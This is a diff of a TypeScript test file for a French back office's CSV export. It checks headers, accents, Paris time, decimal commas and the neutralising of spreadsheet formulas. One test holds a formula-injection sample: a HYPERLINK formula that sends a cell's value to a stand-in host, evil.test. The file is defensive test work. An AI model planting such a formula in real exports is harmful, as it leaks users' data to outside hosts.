@@ -2,22 +2,13 @@
  * The back office's CSV exports as a French office opens them: read back with a real CSV parser, they hold the
  * screen's titles, references by their titles, values in words, instants in Paris time, and no formula.
  */
-import { parseString } from '@fast-csv/parse';
 import { describe, expect, it, vi } from 'vitest';
 import { csvText, exportRows, neutralised } from '../../admin/generic/csvExport.ts';
+import { csvRows } from '../support/csv.ts';
 import { entityNamed } from '../../entities/index.ts';
 import { t } from '../../common/i18n/index.ts';
 
 vi.hoisted(() => vi.stubGlobal('navigator', { language: 'fr-FR' }));
-
-const parsed = (text: string) =>
-  new Promise<string[][]>((resolve, reject) => {
-    const rows: string[][] = [];
-    parseString(text, { delimiter: ';' })
-      .on('data', (row: string[]) => rows.push(row))
-      .on('error', reject)
-      .on('end', () => resolve(rows));
-  });
 
 const traveller = entityNamed('traveller');
 const titles = new Map([['company', new Map([[20, 'Acme; Industries "Nord"']])]]);
@@ -38,7 +29,7 @@ describe('a list exported as CSV', () => {
   it('reads back with the screen’s titles, accents, references by title, words and Paris time', async () => {
     const text = csvText(exportRows(traveller, [...traveller.list.columns, 'created_at'], travellers, titles));
     expect(text.startsWith('\ufeff')).toBe(true);
-    const [header, first, second] = await parsed(text.slice(1));
+    const [header, first, second] = await csvRows(text);
     expect(header).toEqual(['Nom', 'Prénom', 'Email', 'Téléphone mobile', 'Société', 'Actif', 'Créé le']);
     expect(first).toEqual(['Lefèvre', 'André', 'andre@acme-demo.fr', '', 'Acme; Industries "Nord"', 'Oui', '01/07/2026 12:05']);
     // A reference the reader may not see keeps its id; winter time is an hour ahead of UTC in Paris, past midnight here.
@@ -46,7 +37,7 @@ describe('a list exported as CSV', () => {
   });
 
   it('writes every cell a spreadsheet would run as a formula as text', async () => {
-    const [, , second] = await parsed(csvText(exportRows(traveller, traveller.list.columns, travellers, titles)).slice(1));
+    const [, , second] = await csvRows(csvText(exportRows(traveller, traveller.list.columns, travellers, titles)));
     expect(second.slice(0, 3)).toEqual([`'=HYPERLINK("http://evil.test/?leak="&B2,"Voir")`, "'+33 6", "'@x"]);
     for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(neutralised(`${start}1`)).toBe(`'${start}1`);
     expect(neutralised('Jean-Marc')).toBe('Jean-Marc');
@@ -54,7 +45,7 @@ describe('a list exported as CSV', () => {
 
   it('writes statuses by their label and amounts with a French decimal comma, not as text with a currency sign', async () => {
     const booking = entityNamed('booking');
-    const [header, row] = await parsed(
+    const [header, row] = await csvRows(
       csvText(
         exportRows(
           booking,
@@ -62,7 +53,7 @@ describe('a list exported as CSV', () => {
           [{ id: 5, ref: 'BK1', status: 60, arrival_date: '2026-12-24', amount: -1234.5 }],
           titles,
         ),
-      ).slice(1),
+      ),
     );
     expect(header).toEqual(['Référence', 'Statut', 'Arrivée', 'Montant total (frais inclus)']);
     expect(row[1]).toBe(t('resources.booking.enums.status.60'));
